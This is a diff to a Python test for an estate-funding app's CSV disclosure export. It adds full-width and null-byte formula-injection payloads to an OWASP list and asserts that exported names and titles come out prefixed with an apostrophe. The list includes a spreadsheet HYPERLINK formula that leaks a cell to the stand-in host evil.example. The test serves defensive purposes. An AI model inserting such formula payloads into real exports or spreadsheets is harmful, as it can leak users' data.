@@ -20,6 +20,12 @@ OWASP_PAYLOADS = [
     "\t=1+1",
     "\r=1+1",
     '=HYPERLINK("http://evil.example/?leak="&A1,"点这里")',
+    # the full-width forms a Chinese input method types, which East Asian spreadsheets also run
+    "＝1+1",
+    "＋1+1",
+    "－2+3",
+    "＠SUM(1+1)",
+    "\0=1+1",
 ]
 
 
@@ -53,9 +59,10 @@ def test_the_disclosure_csv_neutralises_names_and_titles(db):
 
     e = estates.add_estate(ACTOR, "=1+1小区")
     funding.create_project(ACTOR, e.id, "@SUM(A1)车棚", 1000_00)
+    funding.create_project(ACTOR, e.id, "＝HYPERLINK(\"x\")路面", 1000_00)
     text = disclosure.to_csv(disclosure.collect(e.id))
     rows = list(csv.reader(io.StringIO(text, newline="")))
-    assert rows[1][0] == "'=1+1小区" and rows[1][2] == "'@SUM(A1)车棚"
+    assert rows[1][0] == "'=1+1小区" and {rows[1][2], rows[2][2]} == {"'@SUM(A1)车棚", "'＝HYPERLINK(\"x\")路面"}
     assert rows[1][4] == "100000"  # target_fen: a number, as before
 
 
